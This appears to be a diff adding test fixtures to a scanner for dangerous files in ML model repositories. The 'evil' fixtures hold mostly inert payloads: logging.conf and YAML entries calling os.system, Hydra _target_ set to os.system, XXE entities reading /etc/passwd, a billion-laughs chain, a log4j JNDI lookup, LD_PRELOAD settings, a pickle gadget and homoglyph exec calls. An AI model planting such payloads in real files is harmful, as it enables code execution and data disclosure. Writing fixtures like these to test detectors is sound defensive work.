@@ -178,7 +178,128 @@ def tools_evil():
     yield "requirements/base.txt", b"git+https://example.org/x\n", "medium"
 
 
+LOGGING = """[loggers]
+keys=root
+[handlers]
+keys=a,b
+[formatters]
+keys=c
+[handler_a]
+class=StreamHandler
+args=(sys.stdout,)
+[handler_b]
+  class = logging.handlers.SysLogHandler
+  level = INFO
+  args = (('localhost', handlers.SYSLOG_UDP_PORT), handlers.SysLogHandler.LOG_USER)
+  kwargs = {'x': 1, 'name': os.path.join('%(here)s', "a.log")}
+[formatter_c]
+format=%(asctime)s %(message)s
+class=logging.Formatter
+"""
+
+
+def server_harmless():
+    yield "logging.conf", LOGGING.encode()
+    yield "alembic.ini", LOGGING.replace("=", " = ").encode()
+    yield "hydra.toml", b'a = "_target_"\n[model]\n_target_ = "torch.nn.Linear"\n'
+    yield "litellm.yaml", (b"model_list:\n- litellm_params: {model: a/b, api_key: os.environ/KEY}\n"
+                           b"litellm_settings:\n  callbacks: [langfuse, prometheus]\n  success_callback: [s3]\n")
+    yield "vllm.yaml", b"model: a/b\ntrust-remote-code: false\nworker-cls: auto\nport: 8000\n"
+    yield "axolotl.yml", b"base_model: a/b\nplugins: [axolotl.integrations.liger.LigerPlugin]\n"
+    yield "genai_config.json", b'{"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "QnnHtp.dll"}}]}}}}'
+    yield "adapter_config.json", b'{"peft_type": "LORA", "megatron_config": null, "megatron_core": "megatron.core"}'
+    yield "long/notes.txt", b"a word and another one\n" * 100_000
+    yield "requirements.txt", b"-r requirements/base.txt\n-c constraints.txt\ntorch==2.1 \\\n  --hash=sha256:00\n"
+    yield "unit/README.md", b"[Service]\nExecStart=/usr/bin/serve\n"
+
+
+def server_evil():
+    for label, line in (("args", "args=(__import__('os').system('true'),)"), ("kwargs", "kwargs={'x': print()}"), ("class", "class=print()"),
+                        ("colon", "args : (open('x'),)"), ("lines", "args=(\n  print(),)"), ("percent", "args=(%(x)s,)"), ("quoted", "args=('%(x)s',)"),
+                        ("case", "ARGS=(print(),)"), ("index", "args=('a'.join([print()]),)"), ("behind", "args=(sys.stdout)(1)"), ("dunder", "args=(__builtins__,)")):
+        yield f"{label}/logging.conf", f"[handler_a]\nlevel=INFO\n{line}\n".encode(), "high"
+    yield "own/logging.ini", b"[handler_a]\nclass=acme.Handler\n", "medium"
+    yield "starts/logging.ini", b"[formatter_a]\nclass=subprocess.Popen\n", "critical"
+    yield "sections/logging.ini", b"[formatters]\nkeys=a\n[handler_a]\nargs=(print(),)\n", "high"
+    yield "flow/a.txt", b"[f: !!python/object/apply:os.system ['true']]\n", "critical"
+    yield "large/a.txt", b"[f: '" + b"x" * 5 * MIB + b"', a: !!python/object/apply:os.system ['true']]\n", "critical"
+    yield "setup/setup.cfg", b"[metadata]\nname=x\n[handler_a]\nargs=(print(),)\n", "high"
+    for label, line in (("bare", '_target_ = "os.system"'), ("quoted", '"_target_" = \'os.system\''), ("inline", 'a = { _target_ = "os.system", x = 1 }'),
+                        ("table", '[a]\n  _target_="os.system"')):
+        yield f"{label}/config.toml", line.encode(), "critical"
+    yield "escaped/config.toml", b'"\\u005ftarget_" = "os.system"\n', "medium"
+    yield "pyproject.toml", b'[tool.x]\n_target_ = "os.system"\n', "critical"
+    for label, line in (("ray", "applications: [{name: a, import_path: 'fruit:app'}]"), ("litellm", "litellm_settings: {callbacks: hooks.proxy_handler}"),
+                        ("auth", "general_settings: {custom_auth: hooks.auth}"), ("list", "litellm_settings:\n  callbacks: [hooks.handler]"),
+                        ("vllm", "tool-parser-plugin: /x/parser.py"), ("processors", "logits-processors: ['hooks:Processor']"), ("worker", "worker_cls: hooks.Worker"),
+                        ("trust", "trust-remote-code: true"), ("trust-option", "args: [serve, --trust-remote-code]"), ("preload", "env: {LD_PRELOAD: ./x.so}"),
+                        ("build", "build_commands: ['true']"), ("trainer", "plugins: [acme.plugin.Plugin]")):
+        yield f"{label}/config.yaml", line.encode(), "medium"
+        if label in ("ray", "litellm", "auth", "worker", "preload"):
+            value = {"ray": {"import_path": "fruit:app"}, "litellm": {"callbacks": ["hooks.handler"]}, "auth": {"custom_auth": "hooks.auth"},
+                     "worker": {"worker-cls": "hooks.Worker"}, "preload": {"env": {"LD_PRELOAD": "x.so"}}}[label]
+            yield f"{label}/settings.json", json.dumps(value).encode(), "medium"
+            yield f"{label}-large/values.json", json.dumps({**value, "pad": "x" * 5 * MIB}).encode(), "medium"
+    yield "ray-bad/serve.yaml", b"import_path: os:system\n", "critical"
+    yield "megatron/adapter_config.json", b'{"megatron_config": {}, "megatron_core": "acme"}', "medium"
+    yield "langgraph.json", b'{"graphs": {"agent": "./agent.py:graph"}}', "medium"
+    yield "mcp.json", b'{"mcpServers": {"a": {"command": "npx", "args": ["x"]}}}', "medium"
+    for name, words in (("a.service", "[Service]\nExecStart=/x"), ("a.desktop", "[Desktop Entry]\nExec=x"), ("autorun.inf", "[autorun]\nopen=x.exe"),
+                        (".env", "LD_PRELOAD=./x.so"), ("supervisord.conf", "[program:a]\ncommand=x")):
+        yield name, words.encode(), "medium"
+    for line in ("-r list.bin", "--requirement=../x.txt", "-c x", "-\\\nr x.bin", "--index-\\\nurl http://x"):
+        yield "requirements.txt", f"numpy\n{line}\n".encode(), "medium"
+    token = b"hf_" + b"aB3" * 12
+    for label, at in (("end", 3 * MIB), ("seam", MIB - 10), ("start", 1 << 10)):
+        yield f"{label}/notes.txt", (b"word " * (4 * MIB // 5))[:at] + b" " + token + b"\n" + b"word " * 1000, "medium"
+    yield "large/values.json", json.dumps({"a": ["x"] * 1_500_000, "note": token.decode()}).encode(), "medium"
+    yield "key/notes.txt", b"word\n" * 500_000 + b"-----BEGIN PRIVATE KEY-----\n", "medium"
+
+
+ENTITIES = "<?xml version='1.0'?>\n<!DOCTYPE net [{}]>\n<net name='a'>&x;</net>\n"
+
+
+def reaches_harmless():
+    yield "drawing.svg", (b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
+                          b' [<!ENTITY ns "http://example.org/SYSTEM/">]>\n<svg xmlns="&ns;"/>\n')
+    yield "model.xml", b"<?xml version='1.0'?>\n<net name='a'><layers/></net>\n"
+    yield "x.dist-info/entry_points.txt", b"[console_scripts]\na = acme:main\n"
+    yield "python/latin.py", b"# -*- coding: latin-1 -*-\n# \xe9\nX = 1\n".replace(b"\xe9", b"e")
+    yield "python/greek.py", "# vim: set fileencoding=utf-8 :\nα = 1\nname = 'ＡＢＣ'\n".encode()
+    yield "paths.pth", b"src\n./lib\n# /remark\n"
+    yield "page.url", b"[InternetShortcut]\nURL=https://example.org/\n"
+    yield "model.msgpack", b"\x81\xa1a\xc4\x04\x80\x02\x00\x01"
+
+
+def reaches_evil():
+    yield "entity/openvino.xml", ENTITIES.format("<!ENTITY x SYSTEM 'file:///etc/passwd'>").encode(), "high"
+    yield "public/a.pmml", ENTITIES.format("<!ENTITY x PUBLIC 'a' 'http://example.org/'>").encode(), "high"
+    yield "parameter/a.xml", ENTITIES.format("<!ENTITY % x SYSTEM 'http://example.org/'>").encode(), "high"
+    many = "".join(f"<!ENTITY a{i + 1} '&a{i};&a{i};'>" for i in range(9))
+    yield "many/a.xml", ENTITIES.format("<!ENTITY a0 'x'>" + many).encode(), "medium"
+    yield "include/a.xml", b"<?xml version='1.0'?><a xmlns:xi='x'><xi:include href='file:///x'/></a>", "medium"
+    yield "lookup/log4j2.xml", b"<?xml version='1.0'?><Configuration><a pattern='${jndi:ldap://example.org/}'/></Configuration>", "medium"
+    yield "x.dist-info/entry_points.txt", b"[torch.backends]\na = acme:run\n", "high"
+    yield "y.egg-info/entry_points.txt", b"[console_scripts]\na = acme:main\n[vllm.general_plugins]\na = acme:run\n", "medium"
+    yield "x.start", b"acme.module:run\n", "high"
+    yield "paths.pth", b"/tmp/acme\n", "medium"
+    yield "a.reg", b"Windows Registry Editor Version 5.00\n", "medium"
+    yield "a.url", b"[InternetShortcut]\nURL=file://example.org/x\n", "medium"
+    yield "desktop.ini", b"[.ShellClassInfo]\nIconResource=\\\\example.org\\x\n", "medium"
+    yield "utf7.py", b"# -*- coding: utf-7 -*-\n+AGk-mport acme\n", "high"
+    yield "wide.py", "ｅxec('1')\n".encode(), "high"
+    yield "letters.py", "𝐞𝐱𝐞𝐜('1')\n".encode(), "high"
+    yield "from.py", b"from os import system as s\ns('true')\n", "high"
+    yield "model.msgpack", b"\x81\xa1a\xc4" + bytes([len(RUNS)]) + RUNS, "critical"
+    code = b"\x80\x02cnumpy.ma.core\n_mareconstruct\n(cfunctools\npartial\ncnumpy\nndarray\nK\x01\x85X\x01\0\0\0btR."
+    yield "masked.pkl", code, "high"
+
+
 def harmless():
+    for name, data in reaches_harmless():
+        yield f"reaches/{name}", data
+    for name, data in server_harmless():
+        yield f"servers/{name}", data
     for part in (callees_harmless, templates_harmless):
         for name, value in part():
             yield f"settings/{name}", json.dumps(value).encode()
@@ -190,3 +311,5 @@ def evil():
     yield from callees_evil()
     yield from templates_evil()
     yield from tools_evil()
+    yield from server_evil()
+    yield from reaches_evil()
